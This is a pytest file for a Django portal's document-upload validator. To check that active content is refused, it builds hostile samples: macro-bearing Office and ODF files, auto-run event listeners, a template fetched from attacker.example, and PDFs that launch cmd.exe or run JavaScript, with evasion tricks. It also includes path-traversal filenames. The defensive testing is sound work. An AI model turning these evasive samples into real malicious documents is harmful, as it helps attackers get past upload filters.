"""A document's file is checked by its content against an allow-list, within a
size limit, its name must say what it is, and it is stored under a clean name.
Refusals are form errors in the editor's language."""

import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.template.defaultfilters import filesizeformat
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link

from asean_portal.core.documents import document_path
from civil_service.models import Document
from tests import factories
from tests.core.test_admin import admin_url, errors
from tests.core.test_roles import form_data

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/vi/admin/')</script></body></html>"


def image(fmt):
    buffer = io.BytesIO()
    Image.new("RGB", (20, 10), "#0b3a75").save(buffer, fmt)
    return buffer.getvalue()


def pdf():
    """A real one-page PDF."""
    return image("PDF")


def zipped(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries.items():
            # ODF keeps its "mimetype" entry first and uncompressed.
            compression = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=compression)
    return buffer.getvalue()


def ooxml(*content_types, parts=()):
    overrides = "".join(
        f'<Override PartName="/part{n}.xml" ContentType="{kind}"/>'
        for n, kind in enumerate(content_types)
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f"{overrides}</Types>"
    )
    return zipped(
        {"[Content_Types].xml": types, "_rels/.rels": "<Relationships/>"}
        | dict.fromkeys(parts, "<x/>")
    )


def odf(mimetype, *parts):
    return zipped(
        {
            "mimetype": mimetype,
            "content.xml": '<office:document xmlns:office="urn:oasis:names:tc:opendocument:'
            'xmlns:office:1.0"/>',
        }
        | dict.fromkeys(parts, "")
    )


def odf_with_content(mimetype, content):
    """An OpenDocument package whose content.xml is ``content``, compressed."""
    return zipped({"mimetype": mimetype, "content.xml": content})


# A document event that runs a macro of the document when it is opened.
EVENT_LISTENER = (
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink">'
    b"<office:scripts><office:event-listeners>"
    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    b"</office:event-listeners></office:scripts></office:document-content>"
)


FREE, END, FAT_SECTOR, NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole(*streams, storages=(), contents=None):
    """A compound file (the container of DOC and XLS files) with a stream of
    4 096 bytes for each name in ``streams`` and an empty storage for each in
    ``storages``, in 512-byte sectors: the FAT, the directory, then the streams."""
    children = sorted(
        [(name, 2) for name in streams] + [(name, 1) for name in storages],
        key=lambda child: (len(child[0]), child[0].upper()),
    )
    entry_count = -(-(len(children) + 1) // 4) * 4
    directory_sectors = entry_count // 4
    first_stream_sector = 1 + directory_sectors

    def entry(name, kind, right=NONE, child=NONE, start=0, size=0):
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            1 if kind else 0,
            NONE,
            right,
            child,
            b"",
            0,
            0,
            0,
            start,
            size,
        )

    entries = [entry("Root Entry", 5, child=1 if children else NONE, start=END)]
    fat = [FAT_SECTOR] + [*range(2, 1 + directory_sectors), END]
    data = b""
    for index, (name, kind) in enumerate(children, start=1):
        right = index + 1 if index < len(children) else NONE
        if kind == 2:
            start = first_stream_sector + len(data) // 512
            entries.append(entry(name, 2, right=right, start=start, size=4096))
            fat += [*range(start + 1, start + 8), END]
            data += (contents or {}).get(name, name.encode()).ljust(4096, b"\0")
        else:
            entries.append(entry(name, 1, right=right))
    entries += [entry("", 0)] * (entry_count - len(entries))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("d0cf11e0a1b11ae1"),
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        1,
        1,
        0,
        4096,
        END,
        0,
        END,
        0,
    ) + struct.pack("<109I", 0, *[FREE] * 108)
    fat_sector = struct.pack("<128I", *fat, *[FREE] * (128 - len(fat)))
    return header + fat_sector + b"".join(entries) + data


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
)
# The event listener under another prefix, its address with a character
# reference: the same to an XML parser, other bytes to a search.
EVENT_LISTENER_DISGUISED = (
    f"<office:document-content {ODF_NAMESPACES}"
    'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    "<office:scripts><office:event-listeners>"
    '<s:event-listener s:language="ooo:script" s:event-name="dom:load" '
    'xlink:href="vnd&#46;sun.star.script:share.py$run?language=Python&amp;location=share"/>'
    "</office:event-listeners></office:scripts></office:document-content>"
).encode()
MACRO_LINK = (
    f'<office:document-content {ODF_NAMESPACES} xmlns:text="urn:oasis:names:tc:opendocument:'
    'xmlns:text:1.0"><office:body><office:text><text:p><text:a xlink:href="macro:///Standard.'
    'Module1.Main">Open</text:a></text:p></office:text></office:body></office:document-content>'
).encode()
ODF_LINK = (
    f'<office:document-content {ODF_NAMESPACES} xmlns:text="urn:oasis:names:tc:opendocument:'
    'xmlns:text:1.0"><office:body><office:text><text:p><text:a xlink:href="https://asean.org/">'
    "ASEAN</text:a></text:p></office:text></office:body></office:document-content>"
).encode()
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def ooxml_with_relationship(kind, target):
    """A Word document one of whose parts is ``target`` outside the file."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    package = zipfile.ZipFile(io.BytesIO(ooxml(DOCX)))
    entries = {name: package.read(name) for name in package.namelist()}
    return zipped(entries | {"word/_rels/settings.xml.rels": rels})


def workbook_with_sheet(sheet_type):
    """An Excel 97-2003 workbook stream: BOF, then one BOUNDSHEET record."""
    name = b"\x02\x00M1"
    record = struct.pack("<IBB", 0, 0, sheet_type) + name
    stream = (
        struct.pack("<HH", 0x0809, 16)
        + bytes(16)
        + struct.pack("<HH", 0x0085, len(record))
        + record
    )
    return ole("Workbook", contents={"Workbook": stream})


ACCEPTED = [
    ("report.pdf", pdf),
    ("REPORT.PDF", pdf),
    ("plan.docx", lambda: ooxml(DOCX)),
    ("table.xlsx", lambda: ooxml(XLSX)),
    ("slides.pptx", lambda: ooxml(PPTX)),
    ("minutes.odt", lambda: odf(ODT)),
    ("figures.ods", lambda: odf(ODS)),
    ("decision.doc", lambda: ole("WordDocument", "\x05SummaryInformation")),
    ("budget.xls", lambda: ole("Workbook")),
    ("minutes.odt", lambda: odf_with_content(ODT, ODF_LINK)),
    ("plan.docx", lambda: ooxml_with_relationship("hyperlink", "https://asean.org/")),
    ("budget.xls", lambda: workbook_with_sheet(0x00)),
    ("photo.jpg", lambda: image("JPEG")),
    ("photo.jpeg", lambda: image("JPEG")),
    ("map.png", lambda: image("PNG")),
    ("poster.webp", lambda: image("WEBP")),
]

REFUSED = [
    ("page.pdf", lambda: HTML, "not_allowed"),
    ("page.html", lambda: HTML, "not_allowed"),
    (
        "drawing.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "not_allowed",
    ),
    ("animation.gif", lambda: image("GIF"), "not_allowed"),
    ("archive.docx", lambda: zipped({"index.html": HTML}), "not_allowed"),
    ("template.docx", lambda: ooxml(DOCX.replace("document.main", "template.main")), "not_allowed"),
    ("fake.pdf", lambda: b"%PDF", "not_allowed"),
    ("broken.docx", lambda: b"PK\x03\x04" + HTML, "not_allowed"),
    ("installer.doc", lambda: ole("\x05SummaryInformation"), "not_allowed"),
    ("broken.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + HTML, "not_allowed"),
    ("plan.docx", lambda: ooxml(DOCM), "macros"),
    ("plan.docx", lambda: ooxml(DOCX, VBA, parts=["word/vbaProject.bin"]), "macros"),
    ("minutes.odt", lambda: odf(ODT, "Basic/Standard/Module1.xml"), "macros"),
    ("minutes.odt", lambda: odf(ODT, "basic/Standard/Module1.xml"), "macros"),
    ("minutes.odt", lambda: odf(ODT, "SCRIPTS/python/run.py"), "macros"),
    ("minutes.odt", lambda: odf(ODT, "Object 1/Basic/Standard/Module1.xml"), "macros"),
    ("minutes.odt", lambda: odf_with_content(ODT, EVENT_LISTENER), "macros"),
    ("minutes.odt", lambda: odf_with_content(ODT, EVENT_LISTENER_DISGUISED), "macros"),
    ("minutes.odt", lambda: odf_with_content(ODT, MACRO_LINK), "macros"),
    (
        "plan.docx",
        lambda: ooxml_with_relationship("attachedTemplate", "https://attacker.example/t.dotm"),
        "external",
    ),
    ("table.xlsx", lambda: ooxml(XLSX, "application/vnd.ms-excel.macrosheet+xml"), "macros"),
    ("budget.xls", lambda: workbook_with_sheet(0x01), "macros"),
    ("budget.xls", lambda: workbook_with_sheet(0x06), "macros"),
    ("decision.doc", lambda: ole("WordDocument", storages=["Macros"]), "macros"),
    ("budget.xls", lambda: ole("Workbook", storages=["_VBA_PROJECT_CUR"]), "macros"),
    ("report.html", pdf, "name"),
    ("report", pdf, "name"),
    ("table.docx", lambda: ooxml(XLSX), "name"),
    ("photo.png", lambda: image("JPEG"), "name"),
]


def document_with(name, content):
    return Document(
        title_vi="Văn bản",
        kind=Document.Kind.DECISION,
        file=SimpleUploadedFile(name, content),
    )


def refusal(name, content):
    with pytest.raises(ValidationError) as refused:
        document_with(name, content).clean_fields()
    return refused.value.error_dict["file"][0]


@pytest.mark.parametrize(("name", "make"), ACCEPTED, ids=[name for name, _make in ACCEPTED])
def test_allowed_documents_are_accepted_by_their_content(name, make):
    document_with(name, make()).clean_fields()


@pytest.mark.parametrize(
    ("name", "make", "code"), REFUSED, ids=[f"{name}-{code}" for name, _make, code in REFUSED]
)
def test_other_content_is_refused(name, make, code):
    assert refusal(name, make()).code == code


def test_an_opendocument_whose_xml_is_too_large_to_read_through_is_refused(monkeypatch):
    """A compressed bomb: millions of empty elements, read within a budget and
    without keeping them."""
    from asean_portal.core import documents

    monkeypatch.setattr(documents, "ODF_MAX_XML_BYTES", 4 * 1024 * 1024)
    content = b"<r>" + b"<x/>" * (1024 * 1024 + 1) + b"</r>"
    assert refusal("minutes.odt", odf_with_content(ODT, content)).code == "not_allowed"
    fits = b"<r>" + b"<x/>" * (1024 * 1024 - 2) + b"</r>"
    document_with("minutes.odt", odf_with_content(ODT, fits)).clean_fields()


def test_files_over_the_size_limit_are_refused(settings):
    settings.DOCUMENT_MAX_BYTES = 2000
    content = pdf().ljust(2001, b"\n")
    error = refusal("report.pdf", content)
    assert error.code == "too_large"
    assert error.params == {"size": filesizeformat(2001), "limit": filesizeformat(2000)}


@pytest.fixture
def editor_client(client):
    client.force_login(factories.staff(role="Editor"))
    return client


def post_document(client, upload, language="vi"):
    url = admin_url("civil_service.document", language, "add/")
    data = {**form_data(url), "title_vi": "Quyết định", "kind": "decision", "file": upload}
    return client.post(url, data)


@pytest.mark.parametrize(
    ("language", "words"), [("vi", "không thuộc các loại văn bản"), ("en", "not one of the")]
)
def test_an_html_file_named_pdf_is_refused_in_the_editors_language(editor_client, language, words):
    response = post_document(editor_client, SimpleUploadedFile("report.pdf", HTML), language)
    assert response.status_code == 200
    assert words in " ".join(errors(response)["file"])
    assert not Document.objects.exists()


def test_a_real_pdf_is_accepted_and_stored_under_a_clean_name(editor_client):
    content = pdf()
    upload = SimpleUploadedFile("Quyết định số 1 (bản ký).pdf", content)
    response = post_document(editor_client, upload)
    assert response.status_code == 302, errors(response)
    stored = Document.objects.get().file
    year = timezone.localdate().year
    assert stored.name == f"documents/{year}/Quyết_định_số_1_bản_ký.pdf"
    assert stored.read() == content


@pytest.mark.parametrize(
    "name", ["../../templates/base.html.pdf", "..\\..\\evil.pdf", "/etc/passwd.pdf"]
)
def test_a_name_keeps_no_folder(name):
    field = Document._meta.get_field("file")
    folder, _, stored = field.generate_filename(document_with(name, pdf()), name).rpartition("/")
    assert folder == f"documents/{timezone.localdate().year}"
    assert stored.endswith(".pdf") and ".." not in stored and "\\" not in stored


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_name_is_stored_in_the_year_folder_and_never_hidden(name):
    path = document_path(None, f"{name}.pdf")
    folder, _, stored = path.rpartition("/")
    assert folder == f"documents/{timezone.localdate().year}"
    assert stored.endswith(".pdf") and not stored.startswith(".")
    assert re.fullmatch(r"[-\w.]+", stored)


def test_an_image_document_is_stored_without_its_exif(editor_client):
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 30.0)})
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), "#0b3a75").save(buffer, "JPEG", exif=exif)
    response = post_document(editor_client, SimpleUploadedFile("scan.jpg", buffer.getvalue()))
    assert response.status_code == 302, errors(response)
    stored = Document.objects.get().file
    with Image.open(stored) as image:
        assert not image.getexif() and image.size == (60, 40)


def test_a_document_with_a_long_file_name_is_kept_under_a_shorter_one():
    field = Document._meta.get_field("file").formfield()
    upload = field.clean(SimpleUploadedFile("quyết-định-" * 30 + ".pdf", pdf()))
    document = Document.objects.create(title_vi="Văn bản", kind=Document.Kind.DECISION, file=upload)
    assert document.file.name.endswith(".pdf") and len(document.file.name) <= 100
    assert document.file.read() == pdf()


def written(build):
    """A PDF written by pypdf, after ``build(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(200, 100)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def raw_pdf(*objects, catalog=b"/Type/Catalog/Pages 2 0 R"):
    """A PDF written by hand: object 1 is the catalog, 2 the page tree, then
    ``objects`` from 3."""
    bodies = [b"<<" + catalog + b">>", b"<</Type/Pages/Kids[]/Count 0>>", *objects]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)
    return out


def compressed_catalog(catalog):
    """A PDF whose catalog is inside a compressed object stream, listed by a
    cross-reference stream (PDF 1.5): its words are not in the file's bytes."""
    inside = b"1 0 " + b"<<" + catalog + b">>"
    objects = [
        b"<</Type/Pages/Kids[]/Count 0>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n"
        % len(zlib.compress(inside))
        + zlib.compress(inside)
        + b"\nendstream",
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 2):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = [
        struct.pack(">BIH", 0, 0, 65535),
        struct.pack(">BIH", 2, 3, 0),  # object 1: the first in object stream 3
        *(struct.pack(">BIH", 1, offset, 0) for offset in offsets),
        struct.pack(">BIH", 1, start, 0),
    ]
    table = b"".join(rows)
    out += (
        b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return out


def linked(writer):
    writer.add_annotation(0, Link(rect=(10, 10, 90, 30), url="https://asean.org/"))


def encrypted(writer, password=""):
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")


def script_on_open(writer):
    writer.add_open_action(JavaScript("app.launchURL('https://example.com/')"))


def duplicate_object_behind_a_wrong_offset():
    """Object 3 (the open action) written twice, a link then a script, with the
    table pointing at neither: a reader that trusts the first copy sees a
    link, a viewer that rebuilds the table the script."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += b"3 0 obj\n<</S/URI/URI(https://asean.org/)>>\nendobj\n"
    out += b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in (*offsets, offsets[1]))
    out += b"trailer\n<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF\n" % start
    return out


ACTIVE_PDFS = {
    "program-behind-a-repeated-key": lambda: raw_pdf(
        catalog=b"/Type/Catalog/Pages 2 0 R"
        b"/OpenAction<</S/URI/URI(https://asean.org/)/S/Launch/F(calc.exe)>>"
    ),
    "script-in-an-object-written-twice": duplicate_object_behind_a_wrong_offset,
    "action-named-by-reference": lambda: raw_pdf(
        b"<</S 4 0 R/F(calc.exe)>>",
        b"/Launch",
        catalog=b"/Type/Catalog/Pages 2 0 R/OpenAction 3 0 R",
    ),
    "flash-named-by-reference": lambda: raw_pdf(
        b"<</Type/Annot/Subtype 4 0 R/Rect[0 0 1 1]>>", b"/RichMedia"
    ),
    "link-to-a-network-share": lambda: raw_pdf(
        b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\a.pdf)/D[0/Fit]>>"
    ),
    "script-address": lambda: raw_pdf(b"<</S/URI/URI( JavaScript:alert(1))>>"),
    "script-on-open": lambda: written(script_on_open),
    "attached-file": lambda: written(lambda w: w.add_attachment("run.exe", b"MZ\x90\x00")),
    "script-name-escaped": lambda: raw_pdf(
        catalog=b"/Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/#4A#53(app.alert(1))>>"
    ),
    "launch-on-page-open": lambda: raw_pdf(
        b"<</Type/Page/Parent 2 0 R/AA<</O 4 0 R>>>>",
        b"<</S/Launch/F(cmd.exe)>>",
    ),
    "form-that-sends-data": lambda: raw_pdf(b"<</S/SubmitForm/F(https://example.com/)>>"),
    "xfa-form": lambda: raw_pdf(catalog=b"/Type/Catalog/Pages 2 0 R/AcroForm<</XFA 3 0 R>>"),
    "flash": lambda: raw_pdf(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>"),
    "script-in-object-stream": lambda: compressed_catalog(
        b"/Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    ),
    "script-encrypted": lambda: written(lambda w: (script_on_open(w), encrypted(w))),
}


@pytest.mark.parametrize("make", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_a_pdf_that_runs_or_carries_something_is_refused(make):
    assert refusal("report.pdf", make()).code == "active"


@pytest.mark.parametrize(
    "make",
    [
        lambda: written(linked),
        lambda: written(lambda w: (linked(w), encrypted(w))),
        lambda: compressed_catalog(b"/Type/Catalog/Pages 2 0 R"),
        lambda: raw_pdf(b"<</S/URI/URI(https://asean.org/)>>"),
    ],
    ids=["links", "restricted-without-password", "object-stream", "link-action"],
)
def test_an_ordinary_pdf_with_links_or_restrictions_is_accepted(make):
    document_with("report.pdf", make()).clean_fields()


def test_a_pdf_with_more_objects_than_a_document_has_is_refused_unread(settings, monkeypatch):
    from asean_portal.core import documents

    monkeypatch.setattr(documents, "PDF_MAX_OBJECTS", 3)
    assert refusal("report.pdf", written(linked)).code == "not_allowed"


def test_a_cut_image_is_refused_by_the_form_not_when_it_is_stored(editor_client):
    buffer = io.BytesIO()
    Image.effect_noise((400, 300), 64).convert("RGB").save(buffer, "JPEG")
    # Its headers are whole: Pillow's verify() passes; its pixels are not.
    cut = buffer.getvalue()[: len(buffer.getvalue()) // 3]
    response = post_document(editor_client, SimpleUploadedFile("scan.jpg", cut))
    assert response.status_code == 200
    assert "không phải là ảnh" in " ".join(errors(response)["file"])
    assert not Document.objects.exists()


def test_a_pdf_that_needs_a_password_is_refused():
    content = written(lambda w: encrypted(w, password="mật khẩu"))
    assert refusal("report.pdf", content).code == "locked"


@pytest.mark.parametrize(
    ("language", "words"),
    [("vi", "không được chấp nhận"), ("en", "scripts (JavaScript)")],
)
def test_a_pdf_with_a_script_is_refused_in_the_editors_language(editor_client, language, words):
    upload = SimpleUploadedFile("report.pdf", written(script_on_open))
    response = post_document(editor_client, upload, language)
    assert response.status_code == 200
    assert words in " ".join(errors(response)["file"])
    assert not Document.objects.exists()


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400), st.integers(min_value=0), st.data())
def test_any_bytes_that_look_like_a_pdf_are_accepted_or_refused_with_a_reason(noise, at, data):
    """Damaged PDFs (bytes of a real one replaced or cut) and noise after the
    PDF header never fail otherwise than with a form error."""
    real = data.draw(st.sampled_from([pdf(), written(linked), written(script_on_open)]))
    at %= len(real)
    content = data.draw(
        st.sampled_from([real[:at] + noise + real[at + len(noise) :], real[:at], b"%PDF-" + noise])
    )
    try:
        document_with("report.pdf", content).clean_fields()
    except ValidationError as refused:
        assert refused.error_dict["file"][0].code in {"active", "locked", "not_allowed"}


def test_stored_documents_that_the_current_rules_refuse_are_listed(capsys):
    """A file stored before a rule was added is found by check_documents."""
    clean = Document.objects.create(
        title_vi="Quyết định", kind=Document.Kind.DECISION, file=ContentFile(pdf(), "ok.pdf")
    )
    active = Document.objects.create(
        title_vi="Tuyên bố",
        kind=Document.Kind.DECLARATION,
        file=ContentFile(written(script_on_open), "old.pdf"),
    )
    with pytest.raises(CommandError) as failed:
        call_command("check_documents")
    assert failed.value.returncode == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith(f"{active.pk}\t{active.file.name}\t")
    assert "JavaScript" in lines[0] or "mã lệnh" in lines[0]
    assert lines[1] == "Files checked: 2; refused by the current rules: 1."
    active.delete()
    call_command("check_documents")
    assert capsys.readouterr().out == "Files checked: 1; refused by the current rules: 0.\n"
    assert clean.file.name.endswith("ok.pdf")


@pytest.mark.parametrize(("language", "label"), [("vi", "Ngày ban hành"), ("en", "Date of issue")])
def test_the_document_form_names_its_date_as_the_date_of_issue(editor_client, language, label):
    html = editor_client.get(admin_url("civil_service.document", language, "add/")).content
    assert f'<label for="id_issued_on">{label}:</label>' in html.decode()
